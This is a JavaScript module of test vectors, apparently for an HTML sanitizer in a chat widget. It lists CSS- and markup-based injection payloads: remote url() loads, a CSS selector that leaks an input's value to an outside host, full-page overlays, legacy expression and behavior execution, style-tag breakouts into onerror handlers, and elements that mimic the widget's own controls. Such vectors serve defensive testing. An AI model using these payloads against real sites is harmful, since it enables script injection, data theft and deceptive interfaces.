import {ownWork} from './vector.js';

/** Markup that dresses up as something else, fetches or runs by way of CSS. */
export const css = [
  ...ownWork('the fetching and positioning properties of CSS', {
    'background from elsewhere': '<p style="background:url(https://foreign.test/a.png)" onclick="hit(1)">a</p>',
    'background from elsewhere, escaped':
      '<p style="b\\61ckground:ur\\6c(//foreign.test/a.png)" onclick="hit(1)">a</p>',
    'list’s mark from elsewhere': '<li style="list-style:url(https://foreign.test/a.png)" onclick="hit(1)">a</li>',
    'pointer from elsewhere': '<b style="cursor:url(https://foreign.test/a.cur),auto" onmouseover="hit(1)">a</b>',
    'content from elsewhere':
      '<style>p::before{content:url(https://foreign.test/a.png)}</style><p onclick="hit(1)">a</p>',
    'sheet from elsewhere': '<style>@import url(https://foreign.test/a.css);</style><p onclick="hit(1)">a</p>',
    'typeface from elsewhere':
      '<style>@font-face{font-family:x;src:url(https://foreign.test/a.woff2)}p{font-family:x}</style><p onclick="hit(1)">a</p>',
    'secret that is read':
      '<style>input[value^="a"]{background:url(https://foreign.test/a)}</style><input value="a" onclick="hit(1)">',
    'host that is restyled': '<style>:host{position:fixed;inset:0}</style><p onclick="hit(1)">a</p>',
    'slot that is restyled': '<style>::slotted(*),::part(log){display:none}</style><p onclick="hit(1)">a</p>',
    'layer over the page': '<div style="position:fixed;inset:0;z-index:2147483647" onclick="hit(1)">press</div>',
    'link over the page': '<a style="position:fixed;inset:0" href="javascript:hit(1)">press</a>',
    'text without a size': '<span style="font-size:0" onmouseover="hit(1)">unseen</span>',
    'class of the widget’s own': '<p class="undelivered unseen notice" onclick="hit(1)">Not sent</p>',
    'class of the widget’s button':
      '<span class="plain primary" role="button" tabindex="0" onfocus="hit(1)">End chat</span>',
    'role of the widget’s own': '<p role="alert" aria-live="assertive" aria-label="Chat ended" onclick="hit(1)">a</p>',
    'data of the widget’s own': '<p data-index="0" data-id="x" onclick="hit(1)">a</p>',
    'expression of old': '<p style="width:expression(hit(1))" onclick="hit(1)">a</p>',
    'binding of old': '<p style="-moz-binding:url(https://foreign.test/a.xml#x)" onclick="hit(1)">a</p>',
    'behaviour of old': '<p style="behavior:url(https://foreign.test/a.htc)" onclick="hit(1)">a</p>',
    'style that ends its element': '<style>p{}</style><img src="x" onerror="hit(1)"><style></style>',
    'style that ends another way': '<style>p{}</STYLE/x><img src="x" onerror="hit(1)">',
    'style in a comment': '<style><!-- </style><img src="x" onerror="hit(1)"> --></style>',
    'attribute that ends its element': '<p style="}</style><img src=x onerror=hit(1)>">a</p><i onclick="hit(1)">a</i>',
    'properties of old elements':
      '<font size="99" color="red" onclick="hit(1)">a</font><center onclick="hit(1)">a</center><blink onclick="hit(1)">a</blink>',
    'space that is taken': '<table width="99999" height="99999" cellpadding="9999" onclick="hit(1)"><tr><td>a</table>',
    'columns that are spanned': '<table><tr><td colspan="99999999" rowspan="99999999" onclick="hit(1)">a</table>',
  }),
];
